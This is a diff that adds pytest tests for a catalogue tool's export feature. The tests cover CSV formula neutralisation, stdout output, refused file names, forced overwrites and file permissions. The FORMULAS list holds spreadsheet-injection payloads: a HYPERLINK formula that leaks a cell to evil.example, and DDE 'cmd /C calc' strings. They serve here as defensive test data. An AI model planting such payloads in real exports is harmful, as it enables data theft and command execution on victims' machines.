@@ -17,6 +17,8 @@ import io
 import json
 import os
 import re
+import stat
+import sys
 from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -33,9 +35,12 @@ from conftest import (
     SU_DONG_PO,
     TRAVEL,
     XING_SHI,
+    FakeStdout,
     assert_clean,
     catalog_data,
+    catalogue_with_titles,
     needs_mounts,
+    run_cli,
     run_mounted,
     write_catalog,
 )
@@ -1176,3 +1181,123 @@ def test_export_rejects_a_bad_format_before_creating_anything(catalog: Catalog, 
     with pytest.raises(ExportError):
         export.render_pieces(catalog, export.selection(catalog), "xml")
     assert list(tmp_path.iterdir()) == []
+
+
+# The seven ways a cell starts a formula: OWASP's = + - @ tab CR, and LF.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+]
+
+
+# CSV formulas ------------------------------------------------------------------------------------
+
+
+def test_csv_export_and_search_neutralise_every_formula(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    titled_store = catalogue_with_titles(tmp_path, FORMULAS)
+    target = tmp_path / "out.csv"
+    assert run_cli(capsys, "export", "", "-o", str(target), *titled_store)[0] == 0
+    pipe = FakeStdout(terminal=False)
+    with monkeypatch.context() as patched:
+        patched.setattr(sys, "stdout", pipe)
+        assert main(["search", "", "--format", "csv", *titled_store]) == 0
+    searched = pipe.written()
+    for text in (target.read_bytes().decode("utf-8-sig"), searched):
+        titles = sorted(row["title"] for row in csv.DictReader(io.StringIO(text, newline="")))
+        assert titles == sorted("'" + formula for formula in FORMULAS)
+    # JSON keeps the data as it is: only a spreadsheet cell needs the quote.
+    _, as_json, _ = run_cli(capsys, "search", "", "--format", "json", *titled_store)
+    assert sorted(w["title"] for w in json.loads(as_json)["works"]) == sorted(FORMULAS)
+
+
+# Where exports go --------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def titled_store(tmp_path: Path) -> list[str]:
+    return catalogue_with_titles(tmp_path, ["醒狮", "阿勒泰"])
+
+
+def test_dash_writes_to_stdout(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
+) -> None:
+    code, out, _ = run_cli(capsys, "export", "", "-o", "-", *titled_store)
+    assert code == 0 and len(yaml.safe_load(out)["works"]) == 2
+    assert not (Path.cwd() / "-").exists()
+    code, out, _ = run_cli(capsys, "export", "", "-o", "-", "--format", "csv", *titled_store)
+    assert code == 0 and not out.startswith("\ufeff") and len(out.splitlines()) == 3
+
+
+@pytest.mark.parametrize(
+    ("name", "message"),
+    [("out.txt", "cannot tell the format"), ("out", "cannot tell the format"), ("newdir/", "names a folder")],
+)
+def test_names_that_say_no_format_or_a_folder_are_refused(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str], name: str, message: str
+) -> None:
+    code, _, err = run_cli(capsys, "export", "", "-o", f"{tmp_path}/{name}", *titled_store)
+    assert code == 1 and message in err and err.count("\n") == 1
+    assert not (tmp_path / name.rstrip("/")).exists()
+
+
+def test_force_replaces_a_regular_file_only(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
+) -> None:
+    regular = tmp_path / "regular.yaml"
+    regular.write_text("old", encoding="utf-8")
+    regular.chmod(0o640)
+    assert run_cli(capsys, "export", "", "-o", str(regular), "--force", *titled_store)[0] == 0
+    assert "醒狮" in regular.read_text(encoding="utf-8")
+    assert stat.S_IMODE(regular.stat().st_mode) == 0o640  # a replaced file keeps its mode
+
+    aim = tmp_path / "aim.yaml"
+    aim.write_text("the link's target", encoding="utf-8")
+    link = tmp_path / "link.yaml"
+    link.symlink_to(aim)
+    fifo = tmp_path / "fifo.yaml"
+    os.mkfifo(fifo)
+    folder = tmp_path / "folder.yaml"
+    folder.mkdir()
+    for target, kind in (
+        (link, "symbolic link"),
+        (fifo, "FIFO"),
+        (folder, "folder"),
+        (Path("/dev/null"), "device"),
+    ):
+        code, _, err = run_cli(capsys, "export", "", "-o", str(target), "--force", *titled_store)
+        assert code == 1 and kind in err, err
+    assert link.is_symlink() and aim.read_text(encoding="utf-8") == "the link's target"
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and folder.is_dir()
+    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root may write a read-only file")
+def test_force_leaves_a_read_only_file_alone(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
+) -> None:
+    locked = tmp_path / "locked.yaml"
+    locked.write_text("keep", encoding="utf-8")
+    locked.chmod(0o444)
+    code, _, err = run_cli(capsys, "export", "", "-o", str(locked), "--force", *titled_store)
+    assert code == 1 and "read-only" in err and locked.read_text(encoding="utf-8") == "keep"
+
+
+@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
+def test_new_exports_follow_the_umask(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str], umask: int, mode: int
+) -> None:
+    target = tmp_path / "new.json"
+    previous = os.umask(umask)
+    try:
+        assert run_cli(capsys, "export", "", "-o", str(target), *titled_store)[0] == 0
+    finally:
+        os.umask(previous)
+    assert stat.S_IMODE(target.stat().st_mode) == mode
+    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
